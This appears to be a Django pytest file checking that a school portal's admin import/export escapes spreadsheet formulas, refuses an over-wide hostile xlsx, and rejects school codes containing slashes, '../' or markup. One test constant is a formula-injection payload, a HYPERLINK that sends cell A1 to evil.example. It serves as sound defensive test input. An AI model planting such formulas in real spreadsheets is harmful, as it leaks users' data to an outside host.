"""The admin's django-import-export: formulas neutralised on export, uploads through the one gate; school
codes limited to letters, digits, «-», «_», «.» (issue 15, item 8)."""

import io

import pytest
import tablib
from django.contrib import admin
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from import_export.admin import ImportExportMixinBase
from openpyxl import load_workbook

from benchmarks.hostile_files import far_cell_xlsx
from schools.admin import PortalImportForm, PortalXLSX, SchoolResource
from schools.importing import run_import
from schools.models import School
from schools.validators import validate_school_code
from tests.factories import SchoolFactory
from tests.schools.test_imports import SCHOOL_HEADER, school_row

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Школа")'


def test_an_admin_export_writes_formulas_as_text():
    dataset = tablib.Dataset(["0101", HYPERLINK, "+7 000"], headers=["code", "name", "phone"])
    sheet = load_workbook(io.BytesIO(PortalXLSX().export_data(dataset))).active
    assert [cell.value for cell in sheet[2]] == ["0101", "'" + HYPERLINK, "'+7 000"]
    assert sheet["B2"].data_type == "s"


def test_every_admin_with_import_export_uses_the_safe_format_and_the_checked_form(rf):
    portal_admins = [a for a in admin.site._registry.values() if isinstance(a, ImportExportMixinBase)]
    assert len(portal_admins) >= 3  # schools, contexts, results
    for model_admin in portal_admins:
        assert model_admin.formats == [PortalXLSX], type(model_admin).__name__
        assert model_admin.import_form_class is PortalImportForm, type(model_admin).__name__


def test_the_admin_import_form_refuses_the_far_cell_file_with_its_reason():
    upload = SimpleUploadedFile("школы.xlsx", far_cell_xlsx([["code"], ["0101"]]).getvalue())
    form = PortalImportForm(
        formats=[PortalXLSX],
        resources=[SchoolResource],
        data={"format": "0", "resource": "0"},
        files={"import_file": upload},
    )
    assert not form.is_valid()
    assert form.errors["import_file"] == [
        "Лист «Данные» слишком широкий: заполненная ячейка — столбец 16 384, "
        "допускается не более 100 столбцов."
    ]


@pytest.mark.parametrize("code", ["01/02", "01 02", "0101?", "../0101", "<b>"])
def test_a_school_code_with_other_characters_is_refused_naming_the_row_and_value(db, make_xlsx, code):
    file = make_xlsx([SCHOOL_HEADER, school_row(code="0100"), school_row(code=code)])
    summary = run_import(kind="schools", file=file, file_name="школы.xlsx")
    assert summary.errors == [
        {
            "row": 3,
            "column": "Код ОО",
            "message": "допускаются только буквы, цифры, дефис, подчёркивание и точка",
            "value": code,
        }
    ]
    assert not School.objects.exists()


@pytest.mark.parametrize("code", ["0101", "А-12", "sch_7.2", "24.001"])
def test_ordinary_codes_pass(code):
    validate_school_code(code)


def test_the_model_and_its_forms_refuse_a_slash(db):
    school = SchoolFactory.build(code="01/02")
    with pytest.raises(ValidationError) as error:
        school.full_clean(exclude=["municipality"])
    assert error.value.message_dict["code"] == [
        "Код ОО «01/02» не подходит: допускаются только буквы, цифры, дефис, подчёркивание и точка."
    ]
